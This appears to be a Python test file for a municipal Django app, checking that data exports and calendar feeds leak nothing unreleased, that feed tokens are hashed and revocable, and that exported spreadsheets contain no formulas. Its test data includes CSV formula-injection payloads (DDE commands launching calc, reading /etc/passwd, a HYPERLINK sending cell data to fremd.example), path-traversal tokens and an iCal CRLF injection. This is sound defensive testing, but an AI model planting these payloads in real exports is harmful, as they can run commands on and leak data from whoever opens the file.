"""Attack: read measures by way of tables and calendars, or let a table attack whoever opens it."""

import csv
import io
from collections.abc import Callable
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from chancencheck.accounts.models import User
from chancencheck.assessments.models import Assessment
from chancencheck.citizens.logs import NothingOfCitizens
from chancencheck.measures import feed
from chancencheck.measures.models import CalendarFeed, Function, Measure
from chancencheck.organisations.models import Membership, RoleAssignment
from tests import measures_world as made
from tests import world
from tests.world import THERE, person

pytestmark = pytest.mark.usefixtures("cities")

SignIn = Callable[..., Any]
SECRET = "Die Schalter umbauen"
FORMULAS = [
    "=cmd|'/c calc'!A0",  # DDE in Excel
    '=DDE("soffice";"/etc/passwd";"1")',  # DDE in LibreOffice
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|'/c calc'!A0",
    "\t=1+1",
    "\r=1+1",
    ' =HYPERLINK("http://fremd.example/?"&A1)',
    "＝1+1",
]


def body(response: Any) -> bytes:
    content: bytes = response.getvalue() if response.streaming else response.content
    return content


def csv_rows(response: Any) -> list[list[str]]:
    text = body(response).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


def everywhere(client: Any) -> str:
    """Everything the portfolio, its tables and its views say to this person."""
    pages = [body(client.get(reverse("portfolio"), {"ansicht": v})) for v in VIEWS]
    text = b"".join(pages).decode() + str(csv_rows(client.get(reverse("portfolio_csv"))))
    book = load_workbook(io.BytesIO(body(client.get(reverse("portfolio_xlsx")))))
    return text + str(list(book.active.values))


VIEWS = ("liste", "tafel", "zeit")


def address(who: User) -> str:
    return reverse("calendar_feed", args=[feed.renew_feed(by=who)])


def unreleased() -> Assessment:
    assessment = world.settled()
    made.taken_on(assessment, SECRET)
    return assessment


# ------------------------------------------------------------------- before the release


def test_what_is_not_released_is_in_no_table_and_no_number(client_for: SignIn) -> None:
    assessment = unreleased()
    client = client_for("coordination")

    before = everywhere(client)
    world.release(assessment)

    assert SECRET not in before
    assert client.get(reverse("portfolio")).context["numbers"]["total"] == 1
    assert SECRET in everywhere(client)


def test_somebody_of_the_team_takes_nothing_unreleased_out_as_a_table(client_for: SignIn) -> None:
    """Members of the coordinating group moderate workshops; their team's measures stay there."""
    assessment = unreleased()
    group = person("coordinating_group")
    Assessment.objects.filter(pk=assessment.pk).update(moderator=group)
    client = client_for("coordinating_group")
    measure = Measure.objects.get()

    told = everywhere(client)

    assert client.get(reverse("measure", args=[measure.pk])).status_code == 200
    assert SECRET not in told
    assert client.get(reverse("portfolio")).context["numbers"]["total"] == 0


def test_what_is_not_released_is_in_no_calendar(client_for: SignIn) -> None:
    unreleased()

    for who in ("lead", "holder"):
        assert SECRET.encode() not in client_for(who).get(reverse("calendar_file")).content
        assert SECRET.encode() not in Client().get(address(person(who))).content


def test_what_a_partner_keeps_back_is_in_no_table_of_the_city(client_for: SignIn) -> None:
    measure = made.own("Jobcenter", SECRET)
    Measure.objects.filter(pk=measure.pk).update(is_shown_to_city=False)

    assert SECRET not in everywhere(client_for("coordination"))


# ------------------------------------------------------------------- addresses of calendars


def test_a_guessed_address_leads_nowhere() -> None:
    made.own()
    feed.renew_feed(by=person("lead"))
    stored = CalendarFeed.objects.get().token_hash

    for token in ("guessed", stored, "", "a" * 5000, "..%2f", "%00"):
        assert Client().get(f"/kalender/{token}.ics").status_code == 404


def test_a_renewed_address_ends_the_old_one_and_off_ends_all() -> None:
    old = address(person("lead"))
    new = address(person("lead"))

    assert [Client().get(url).status_code for url in (old, new)] == [404, 200]

    feed.switch_off_feed(by=person("lead"))

    assert Client().get(new).status_code == 404


def test_the_address_of_somebody_shows_theirs_and_nobody_elses() -> None:
    made.own(title=SECRET)

    assert SECRET.encode() in Client().get(address(person("lead"))).content
    for who in ("library_lead", "member1", "coordination"):
        user = world.ensure_person(
            email=world.address(who), name=who, municipality=world.municipality()
        )
        assert SECRET.encode() not in Client().get(address(user)).content
    assert SECRET.encode() not in Client().get(address(person("lead", THERE))).content


def test_rights_are_asked_again_each_time_the_address_is_read() -> None:
    made.own(title=SECRET)
    lead, holder = person("lead"), person("holder")
    urls = [address(lead), address(holder)]
    assert all(SECRET.encode() in Client().get(url).content for url in urls)

    RoleAssignment.objects.filter(user=lead).delete()
    Function.objects.update(holder=None)

    assert all(SECRET.encode() not in Client().get(url).content for url in urls)


def test_whoever_left_the_city_or_whose_account_is_closed_reads_nothing_more() -> None:
    made.own(title=SECRET)
    urls = [address(person("lead")), address(person("holder"))]

    Membership.objects.filter(user=person("lead")).delete()
    User.objects.filter(pk=person("holder").pk).update(is_active=False)

    left, closed = (Client().get(url) for url in urls)
    assert SECRET.encode() not in left.content
    assert closed.status_code == 404


def test_only_a_hash_of_the_address_is_stored_and_the_page_shows_it_once(
    client_for: SignIn,
) -> None:
    client = client_for("lead")

    shown = client.post(reverse("calendar"), {"do": "make"}).context["address"]
    token = shown.rpartition("/")[2].removesuffix(".ics")

    assert Client().get(f"/kalender/{token}.ics").status_code == 200
    assert token not in CalendarFeed.objects.get().token_hash
    assert token not in client.get(reverse("calendar")).content.decode()
    assert token not in str(dict(client.session))


def test_an_answer_to_the_address_is_kept_nowhere_and_sets_no_cookie() -> None:
    response = Client().get(address(person("lead")))

    assert "no-store" in response["Cache-Control"]
    assert "private" in response["Cache-Control"]
    assert response["Referrer-Policy"] == "no-referrer"
    assert not response.cookies


def test_nothing_about_a_secret_address_is_written_into_the_log(
    caplog: pytest.LogCaptureFixture,
) -> None:
    old = address(person("lead"))
    feed.switch_off_feed(by=person("lead"))

    assert Client().get(old).status_code == 404
    written = [record for record in caplog.records if NothingOfCitizens().filter(record)]
    assert old not in str([record.getMessage() for record in written])


def test_a_title_cannot_smuggle_an_event_into_a_calendar() -> None:
    made.own(title="Harmlos\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:Fremd")

    content = Client().get(address(person("lead"))).content

    lines = content.splitlines()
    assert lines.count(b"BEGIN:VEVENT") == lines.count(b"END:VEVENT") == 1
    assert b"SUMMARY:Fremd" not in lines


# ------------------------------------------------------------------- tables that attack


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_of_a_table_is_a_formula(text: str, client_for: SignIn) -> None:
    measure = made.own()
    Measure.objects.filter(pk=measure.pk).update(title=text)
    Function.objects.update(name=text)
    client = client_for("coordination")

    cells = [cell for row in csv_rows(client.get(reverse("portfolio_csv"))) for cell in row]
    book = load_workbook(io.BytesIO(body(client.get(reverse("portfolio_xlsx")))))

    dangerous = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
    assert [c for c in cells if c.strip(" ").startswith(dangerous)] == []
    assert [c.value for row in book.active.rows for c in row if c.data_type == "f"] == []


def test_signs_an_excel_file_cannot_hold_break_no_export(client_for: SignIn) -> None:
    measure = made.own()
    Measure.objects.filter(pk=measure.pk).update(title="Vor\x0bher\x1b und \x01nachher")

    response = client_for("coordination").get(reverse("portfolio_xlsx"))

    assert "nachher" in str(list(load_workbook(io.BytesIO(body(response))).active.values))


# ------------------------------------------------------------------- names


def test_no_table_and_no_calendar_names_a_person(client_for: SignIn) -> None:
    made.own()
    names = [
        text for user in User.objects.all() for text in (user.name, user.email) if text.strip()
    ]

    told = str(csv_rows(client_for("coordination").get(reverse("portfolio_csv"))))
    told += body(client_for("lead").get(reverse("calendar_file"))).decode()

    assert [name for name in names if name in told] == []
